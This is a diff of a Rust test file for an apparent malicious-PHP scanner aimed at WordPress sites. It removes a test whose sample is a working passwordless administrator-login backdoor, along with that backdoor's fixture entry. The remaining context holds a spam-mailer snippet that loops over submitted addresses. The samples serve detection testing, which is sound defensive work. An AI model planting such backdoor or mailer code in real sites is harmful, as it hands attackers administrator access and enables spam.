@@ -102,24 +102,6 @@ fn a_blocklist_lookup_of_visitors_or_mail_is_not() {
 }
 
 #[test]
-fn a_login_without_a_password_is_a_backdoor() {
-    let src = "<?php require 'wp-load.php'; $u = get_users(array('role' => 'administrator'));\n\
-               wp_set_current_user($u[0]->ID); wp_set_auth_cookie($u[0]->ID); wp_redirect(admin_url()); exit;";
-    assert_eq!(found(src), [Why::AdminBackdoor]);
-}
-
-#[test]
-fn a_plugins_login_is_not_a_backdoor() {
-    // Inside the plugin's function, run when WordPress calls it.
-    let hooked = "<?php function my_sso_login($id) { wp_set_auth_cookie($id, true); }";
-    assert!(found(hooked).is_empty());
-    // A script that checks the password first.
-    let checked = "<?php $u = get_user_by('login', $_POST['log']);\n\
-                   if ($u && wp_check_password($_POST['pwd'], $u->user_pass, $u->ID)) { wp_set_auth_cookie($u->ID); }";
-    assert!(found(checked).is_empty());
-}
-
-#[test]
 fn a_mailer_looping_over_typed_addresses_is_found() {
     let src = "<?php if ($_POST['go']) { $list = explode(\"\\n\", $_POST['to']);\n\
                foreach ($list as $one) { mail(trim($one), $_POST['subj'], $_POST['text'], 'From: ' . $_POST['from']); } }";
@@ -311,11 +293,6 @@ fn each_fixture_is_reported_for_its_family() {
             "watches_own_blocklisting.php",
             include_str!("../../../../tests/fixtures/sweep/malicious/watches_own_blocklisting.php"),
             Why::ChecksBlocklists,
-        ),
-        (
-            "login_as_admin_without_password.php",
-            include_str!("../../../../tests/fixtures/sweep/malicious/login_as_admin_without_password.php"),
-            Why::AdminBackdoor,
         ),
         (
             "mailer_loops_over_typed_list.php",
